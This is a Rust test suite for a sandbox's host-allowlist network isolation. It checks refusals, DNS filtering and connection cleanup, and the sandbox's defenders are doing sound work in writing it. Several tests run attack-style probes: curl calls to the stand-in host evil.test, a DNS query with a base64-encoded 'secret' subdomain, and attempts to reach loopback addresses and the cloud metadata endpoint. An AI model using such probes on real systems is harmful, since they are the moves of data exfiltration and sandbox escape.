//! Network access restricted to listed hosts, for one-shot runs and sandboxes. The server listens on the
//! host's loopback, which must be listed like every private address.

use std::io::{Read, Write};
use std::net::{IpAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use belljar_engine::layer::Layer;
use belljar_engine::network::HostRules;
use belljar_engine::report::Report;
use belljar_engine::request::{HostPaths, NetworkSpec, Request};
use serde_json::{Value, json};

use super::{Case, OpenSandbox, cases, text, until};
use crate::fixture::{Fixture, Quiet, Verdict, check};

pub(super) fn all() -> Vec<(&'static str, Case)> {
    cases![
        a_listed_host_is_reached_in_every_way,
        unlisted_hosts_are_refused_with_a_finding,
        programs_that_ignore_the_proxy_have_no_network,
        host_services_are_unreachable,
        egress_ports_cannot_be_taken,
        no_egress_descriptor_is_inherited,
        only_listed_names_are_resolved,
        the_requests_proxy_variables_win,
        connections_end_with_the_run,
        many_runs_leave_nothing,
        hosts_of_a_sandbox_can_be_changed,
        a_task_has_findings_of_its_own,
        a_closed_sandbox_leaves_nothing,
        rules_cannot_be_set_without_egress,
    ]
}

/// A web server on the host. It serves `hello`; below `/hold`, it sends one word and keeps the connection
/// open.
pub(super) struct HostServer {
    pub(super) port: u16,
    connections: Arc<AtomicUsize>,
    held: Arc<AtomicUsize>,
}

impl HostServer {
    pub(super) fn open() -> Result<Self, String> {
        let listener = TcpListener::bind("0.0.0.0:0").map_err(text)?;
        let port = listener.local_addr().map_err(text)?.port();
        let web = Self { port, connections: Arc::default(), held: Arc::default() };
        let (connections, held) = (Arc::clone(&web.connections), Arc::clone(&web.held));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                connections.fetch_add(1, Ordering::SeqCst);
                let held = Arc::clone(&held);
                std::thread::spawn(move || serve(stream, &held));
            }
        });
        Ok(web)
    }

    /// Returns the rule that allows it, by the name of the host's loopback.
    pub(super) fn rule(&self) -> String {
        format!("localhost:{}", self.port)
    }

    pub(super) fn url(&self, path: &str) -> String {
        format!("http://localhost:{}{path}", self.port)
    }

    pub(super) fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }

    fn held(&self) -> usize {
        self.held.load(Ordering::SeqCst)
    }
}

fn serve(mut stream: TcpStream, held: &AtomicUsize) {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return,
        }
    }
    if head.starts_with(b"GET /hold") {
        held.fetch_add(1, Ordering::SeqCst);
        let _written = stream.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nheld\n");
        let _gone = stream.read(&mut byte);
        held.fetch_sub(1, Ordering::SeqCst);
        return;
    }
    // Fails if the client is gone.
    let _written =
        stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n");
}

pub(super) fn hosts(rules: &[String]) -> Value {
    json!({"mode": "hosts", "hosts": rules})
}

pub(super) async fn once(fixture: &Fixture, request: Value) -> Result<Report, String> {
    let request: Request = serde_json::from_value(request).map_err(text)?;
    let admitted = fixture.engine().admit(request, HostPaths::default()).map_err(text)?;
    let never = Box::pin(std::future::pending());
    fixture.engine().execute("exec_test".to_owned(), admitted, &mut Quiet, never).await.map_err(text)
}

pub(super) async fn shell(fixture: &Fixture, code: &str, rules: &[String]) -> Result<Report, String> {
    once(fixture, json!({"language": "bash", "code": code, "network": hosts(rules)})).await
}

async fn python(fixture: &Fixture, code: &str, rules: &[String]) -> Result<Report, String> {
    once(fixture, json!({"language": "python", "code": code, "network": hosts(rules)})).await
}

async fn a_listed_host_is_reached_in_every_way(fixture: Fixture) -> Verdict {
    let web = HostServer::open()?;
    let (url, port) = (web.url("/"), web.port);
    let lines = format!(
        "curl -sS {url}; curl -sS --proxytunnel {url}; curl -sS --noproxy '' -x socks5h://127.0.0.1:3128 {url}\n\
         curl -sS --noproxy '' --socks5 127.0.0.1:3128 http://127.0.0.1:{port}/"
    );
    let report = shell(&fixture, &lines, &[web.rule(), format!("127.0.0.1:{port}")]).await?;
    check!(report.stdout == "hello\n".repeat(4), report);
    check!(
        report.receipt.as_ref().is_some_and(|receipt| {
            [Layer::NetNs, Layer::DiskQuota].iter().all(|layer| receipt.isolation.contains(layer))
        }) && report.findings.is_empty(),
        report
    );
    let code = format!("import urllib.request as u\nprint(u.urlopen('{url}').read().decode(), end='')");
    let report = python(&fixture, &code, &[web.rule()]).await?;
    check!(report.stdout == "hello\n" && web.connections() == 5, report);
    Ok(())
}

async fn unlisted_hosts_are_refused_with_a_finding(fixture: Fixture) -> Verdict {
    let code = "curl -sS -o /dev/null -w '%{http_code}\\n' http://evil.test/; \
                curl -sS https://evil.test/ 2>&1; curl -sS -x socks5h://127.0.0.1:3128 http://evil.test/ 2>&1; true";
    let report = shell(&fixture, code, &["pypi.org".to_owned()]).await?;
    check!(report.stdout.starts_with("403\n"), report);
    let messages: Vec<_> = report.findings.iter().map(|finding| finding.message.as_str()).collect();
    let refused = |port: u16, times: &str| {
        format!("connection to evil.test:{port} was refused: not in network.hosts{times}")
    };
    check!(messages == [refused(80, " (2 times)"), refused(443, "")], messages);
    let finding = &report.findings[1];
    check!(finding.suggestion.contains("--network evil.test:443"), finding);
    check!((finding.category.as_str(), finding.decided_by.as_str()) == ("network", "network.hosts"), finding);
    Ok(())
}

async fn programs_that_ignore_the_proxy_have_no_network(fixture: Fixture) -> Verdict {
    let web = HostServer::open()?;
    let port = web.port;
    let code = format!(
        "import socket\nprint([name for _, name in socket.if_nameindex()])\n\
         def tried(kind, address):\n    with socket.socket(socket.AF_INET, kind) as s:\n        s.settimeout(5)\n        \
         return s.connect_ex(address)\n\
         print(tried(socket.SOCK_STREAM, ('192.0.2.1', 80)), tried(socket.SOCK_DGRAM, ('192.0.2.1', 53)))\n\
         print(tried(socket.SOCK_STREAM, ('127.0.0.1', {port})), tried(socket.SOCK_STREAM, ('{}', {port})))",
        own_address().unwrap_or([192, 0, 2, 2].into())
    );
    let report = python(&fixture, &code, &[web.rule()]).await?;
    // No route exists, and the sandbox's loopback has no server of the host.
    check!(report.stdout == "['lo']\n101 101\n111 101\n", report);
    let report =
        shell(&fixture, &format!("curl -sS --noproxy '*' {} 2>&1", web.url("/")), &[web.rule()]).await?;
    check!(report.exit_code == Some(7) && web.connections() == 0, report);
    Ok(())
}

/// Returns this machine's source address for outgoing traffic.
pub(super) fn own_address() -> Option<IpAddr> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("203.0.113.1:9").ok()?;
    Some(socket.local_addr().ok()?.ip())
}

async fn host_services_are_unreachable(fixture: Fixture) -> Verdict {
    let web = HostServer::open()?;
    let own = own_address().unwrap_or([127, 0, 0, 1].into());
    let mut code = String::new();
    let near =
        ["127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "127.0.0.2", "169.254.169.254"];
    for host in near.into_iter().chain([own.to_string().as_str()]) {
        code += &format!(
            "curl -sS -o /dev/null -w '%{{http_connect}} ' --noproxy '' -p http://{host}:{}/\n",
            web.port
        );
    }
    let report = shell(&fixture, &format!("{code}true"), &["*.test".to_owned()]).await?;
    check!(report.stdout == "403 ".repeat(8) && web.connections() == 0, report);
    // A machine without a network has one address less to try.
    check!(report.findings.len() == if own.is_loopback() { 6 } else { 7 }, report.findings);
    Ok(())
}

async fn egress_ports_cannot_be_taken(fixture: Fixture) -> Verdict {
    let code = "import socket\n\
        for kind, port in ((socket.SOCK_STREAM, 3128), (socket.SOCK_STREAM, 53), (socket.SOCK_DGRAM, 53)):\n    \
        for host in ('127.0.0.1', '0.0.0.0'):\n        with socket.socket(socket.AF_INET, kind) as s:\n            \
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n            \
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n            \
        try:\n                s.bind((host, port)); s.listen()\n                print('taken', host, port)\n            \
        except OSError as e: print(e.errno in (13, 98))";
    let report = python(&fixture, code, &["pypi.org".to_owned()]).await?;
    check!(report.stdout == "True\n".repeat(6), report);
    Ok(())
}

async fn no_egress_descriptor_is_inherited(fixture: Fixture) -> Verdict {
    let code = "import os\nprint(sorted(os.listdir('/proc/self/fd')))\n\
        print([line.split()[3] for line in open('/proc/net/tcp').readlines()[1:]])";
    let report = python(&fixture, code, &["pypi.org".to_owned()]).await?;
    // Descriptor 3 is the directory being listed. Of all sockets, only two listen.
    check!(report.stdout == "['0', '1', '2', '3']\n['0A', '0A']\n", report);
    let open = fixture.open(json!({"network": hosts(&["pypi.org".to_owned()])})).await?;
    check!(open.shell_output("ls -m /proc/self/fd").await? == "0, 1, 2, 3", "descriptors");
    open.close().await
}

async fn only_listed_names_are_resolved(fixture: Fixture) -> Verdict {
    let code = "import socket\nprint(open('/etc/resolv.conf').read().count('nameserver 127.0.0.1'))\n\
        def asked(name):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)\n    \
        labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))\n    \
        s.sendto(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + labels + b'\\0\\0\\x01\\0\\x01', ('127.0.0.1', 53))\n    \
        answer = s.recv(512); return answer[3] & 15, answer[7]\n\
        print(asked('localhost'), asked('c2VjcmV0.evil.test'))\n\
        try: socket.getaddrinfo('evil.test', 443)\nexcept OSError: print('no')";
    let report = python(&fixture, code, &["localhost:80".to_owned()]).await?;
    check!(report.stdout == "1\n(0, 1) (5, 0)\nno\n", report);
    let messages: Vec<_> = report.findings.iter().map(|finding| finding.message.clone()).collect();
    let lookup = |message: &String| message.starts_with("looking up evil.test was refused");
    check!(messages.iter().any(lookup) && messages.len() == 2, messages);
    Ok(())
}

async fn the_requests_proxy_variables_win(fixture: Fixture) -> Verdict {
    let env = json!({"HTTPS_PROXY": "http://mine:1", "no_proxy": "*"});
    let code = "echo $HTTPS_PROXY $https_proxy $HTTP_PROXY $ALL_PROXY $NO_PROXY \"$no_proxy\"";
    let network = hosts(&["pypi.org".to_owned()]);
    let ours = "http://127.0.0.1:3128";
    let expected = format!("http://mine:1 {ours} {ours} {ours} localhost,127.0.0.1 *\n");
    for program in [json!({"language": "bash", "code": code}), json!({"command": ["sh", "-c", code]})] {
        let mut request = program;
        (request["env"], request["network"]) = (env.clone(), network.clone());
        let report = once(&fixture, request).await?;
        check!(report.stdout == expected, report);
    }
    let report = once(&fixture, json!({"language": "bash", "code": "env | grep -ci proxy"})).await?;
    check!(report.stdout == "0\n", report);
    Ok(())
}

async fn connections_end_with_the_run(fixture: Fixture) -> Verdict {
    let web = HostServer::open()?;
    // In the background, so that it outlives the program until the run ends it.
    let code = format!(
        "setsid curl -sSN {} > word & while ! grep -q held word 2>/dev/null; do sleep 0.05; done",
        web.url("/hold")
    );
    let report = shell(&fixture, &code, &[web.rule()]).await?;
    check!(report.exit_code == Some(0) && web.connections() == 1, report);
    until("the connection is closed", async || Ok(web.held() == 0)).await
}

/// Counts the descriptors of this process, which runs must not leak.
fn descriptors() -> usize {
    std::fs::read_dir("/proc/self/fd").map_or(0, Iterator::count)
}

async fn many_runs_leave_nothing(fixture: Fixture) -> Verdict {
    let web = HostServer::open()?;
    let code = format!("curl -sS {}", web.url("/"));
    let before = descriptors();
    for _ in 0..20 {
        let report = shell(&fixture, &code, &[web.rule()]).await?;
        check!(report.stdout == "hello\n", report);
    }
    // Other cases run at the same time, but twenty leaking runs would hold more descriptors than they do.
    until("this process holds no more descriptors", async || Ok(descriptors() < before + 40)).await
}

async fn hosts_of_a_sandbox_can_be_changed(fixture: Fixture) -> Verdict {
    let (one, two) = (HostServer::open()?, HostServer::open()?);
    let open = fixture.open(json!({"network": hosts(&[one.rule()])})).await?;
    check!(open.shell_output(&format!("curl -sS {}", one.url("/"))).await? == "hello", "listed");
    hold(&open, &one).await?;
    check!(open.shell_output(&status_of(&two)).await? == "403", "not listed");
    open.handle.set_hosts(change(&fixture, "hosts", &[two.rule()])?).map_err(text)?;
    until("the connection is cut off", async || Ok(one.held() == 0)).await?;
    check!(open.shell_output(&status_of(&one)).await? == "403", "no longer listed");
    check!(open.shell_output(&format!("curl -sS {}", two.url("/"))).await? == "hello", "now listed");
    let network = open.handle.network_stats().ok_or("no network use")?;
    check!(network.rules.hosts() == [two.rule()] && network.refused.len() == 2, network);
    check!(network.connections == 5 && network.received_bytes > 100, network);
    let mode =
        async || open.handle.receipt().await.map_err(text).map(|receipt| receipt.network.map(|net| net.mode));
    check!(mode().await? == Some("hosts"), "the mode before");
    open.handle.set_hosts(change(&fixture, "internet", &[])?).map_err(text)?;
    check!(mode().await? == Some("internet"), "the mode after");
    check!(open.shell_output(&status_of(&two)).await? == "403", "the host is not the internet");
    open.close().await
}

/// Returns the rules of another network for an open sandbox.
fn change(fixture: &Fixture, mode: &str, hosts: &[String]) -> Result<HostRules, String> {
    let spec = NetworkSpec { mode: mode.to_owned(), hosts: hosts.to_vec() };
    fixture.engine().admit_network_change(&spec).map_err(text)
}

fn status_of(web: &HostServer) -> String {
    format!("curl -sS -o /dev/null -w '%{{http_code}}' {}", web.url("/"))
}

/// Opens a connection that stays open.
async fn hold(open: &OpenSandbox, web: &HostServer) -> Result<(), String> {
    let line = format!("curl -sS {} >/dev/null 2>&1 &", web.url("/hold"));
    open.shell_output(&line).await?;
    until("the connection is open", async || Ok(web.held() == 1)).await
}

async fn a_task_has_findings_of_its_own(fixture: Fixture) -> Verdict {
    let open = fixture.open(json!({"network": hosts(&["pypi.org".to_owned()])})).await?;
    let ask = |host: &str| json!({"language": "bash", "code": format!("curl -sS http://{host}/")});
    for host in ["one.test", "two.test"] {
        let request: Request = serde_json::from_value(ask(host)).map_err(text)?;
        let admitted = fixture.engine().admit_in_sandbox(&open.admitted, request, None).map_err(text)?;
        let never = Box::pin(std::future::pending());
        let (id, handle) = ("exec_test".to_owned(), &*open.handle);
        let report = fixture
            .engine()
            .execute_in_sandbox(handle, &open.packages, id, admitted, &mut Quiet, never)
            .await
            .map_err(text)?;
        check!(report.findings.len() == 1 && report.findings[0].message.contains(host), report.findings);
    }
    open.close().await
}

async fn a_closed_sandbox_leaves_nothing(fixture: Fixture) -> Verdict {
    let web = HostServer::open()?;
    let open = fixture.open(json!({"network": hosts(&[web.rule()])})).await?;
    hold(&open, &web).await?;
    open.close().await?;
    until("the connection is closed", async || Ok(web.held() == 0)).await?;
    let dropped = fixture.open(json!({"network": hosts(&[web.rule()])})).await?;
    hold(&dropped, &web).await?;
    drop(dropped);
    until("the connection is closed", async || Ok(web.held() == 0)).await
}

async fn rules_cannot_be_set_without_egress(fixture: Fixture) -> Verdict {
    let rules = change(&fixture, "hosts", &["pypi.org".to_owned()])?;
    for mode in ["none", "full"] {
        let open = fixture.open(json!({"network": {"mode": mode}})).await?;
        let refused = open.handle.set_hosts(rules.clone()).map_err(text);
        check!(refused.as_ref().is_err_and(|why| why.contains("created with mode 'hosts'")), refused);
        check!(open.handle.network_stats().is_none(), mode);
        open.close().await?;
    }
    Ok(())
}
